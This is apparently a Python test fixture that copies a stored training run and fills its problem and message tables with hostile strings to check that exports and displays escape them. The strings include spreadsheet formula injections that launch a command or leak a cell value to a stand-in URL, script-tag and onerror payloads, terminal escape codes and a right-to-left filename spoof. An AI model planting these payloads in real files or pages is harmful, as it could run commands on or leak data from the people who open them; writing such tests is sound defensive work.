"""A run whose problems and messages are hostile: markup, formulas, control codes, long texts.

TEXTS     the texts; make_hostile   puts them into the tables of a copy of a run
"""

import json
import shutil
from itertools import cycle, islice
from pathlib import Path

import pyarrow as pa

from nip_core.rollouts.storage.parquet import parquet_bytes
from nip_core.rollouts.storage.tables import StoredRollouts
from nip_core.run_store.manifest import commit
from nip_core.run_store.run import RunStore
from nip_core.run_store.store import open_store

FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    " \u00a0\u3000=1+1",
    "\x00=1+1",
    "\ufeff=1+1",
    "a;=cmd|' /C calc'!A0",
    'b;"=1+1"\n- one\n+2;\t@SUM(1+1), -3',
    '=HYPERLINK("http://example.org/?leak="&A1,"look")',
)
TEXTS = (
    *FORMULAS,
    '<script>alert(1)</script><img src=x onerror="alert(2)">{{ 7 * 7 }}&lt;b&gt;',
    'a","b\r\n"c",=1+1\r\n\r\n',
    "\x1b[2J\x1b]0;title\x07 bell \x00 NUL \x7f",
    "\u202egnp.exe\u2066 turned around \u200f",
    "one\u2028two\u2029three\x85four\x0bfive\x0csix",
    "😀 ü 漢字 \u0627\u0644 e\u0301",
    "'already an apostrophe",
    "</textarea></template><!-- ",
    "",
)
LONG = "y" * 1_000_000
HALF = "half of a pair: \ud83d"


def make_hostile(store: Path, folder: Path, run: str, split: str = "test") -> Path:
    """A copy of a store in `folder`, with hostile texts in one split of its first iteration."""
    shutil.copytree(store, folder, ignore=shutil.ignore_patterns("lm_server"))
    copy = open_store(folder)
    directory = RunStore(copy, run).rollouts(0, split)
    shards = [(whole, stored.timings()) for stored in StoredRollouts(copy, [directory]).parts()
              for whole in stored.shards()]  # fmt: skip
    shutil.rmtree(folder / directory)
    digests = {}
    for number, (whole, timings) in enumerate(shards):
        count = whole.episodes.num_rows
        begin = number * 7
        ids = [f"{text[:80]} #{begin + k}" for k, text in enumerate(_texts(begin, count))]
        episodes = _with(
            whole.episodes,
            problem=ids,
            question=_texts(begin + 1, count),
            solution=_texts(begin + 2, count),
            columns=[json.dumps({"hint": text, "=odd": HALF}) for text in _texts(begin, count)],
            difficulty=_texts(begin + 3, count),
            mutation=_texts(begin + 4, count),
        )
        calls = whole.generations.num_rows
        said = _texts(begin + 5, calls)
        said[0] = LONG
        generations = _with(whole.generations, text=said, reasoning=_texts(begin + 6, calls))
        named = {"episodes": episodes, "generations": generations, "timings": timings}
        manifest = commit(
            copy,
            directory,
            {f"{kind}-{number:04d}.parquet": parquet_bytes(of) for kind, of in named.items()},
            rows={kind: table.num_rows for kind, table in named.items()},
            name=f"manifest-{number:04d}.json",
        )
        digests[f"shard/{number:04d}"] = manifest.digest
    commit(copy, directory, {}, inputs=digests)
    return folder


def _texts(begin: int, count: int) -> list[str]:
    return list(islice(cycle(TEXTS), begin, begin + count))


def _with(table: pa.Table, **columns: list[str]) -> pa.Table:
    for name, values in columns.items():
        at = table.schema.get_field_index(name)
        field = table.schema.field(at)
        table = table.set_column(at, field, pa.array(values, field.type))
    return table
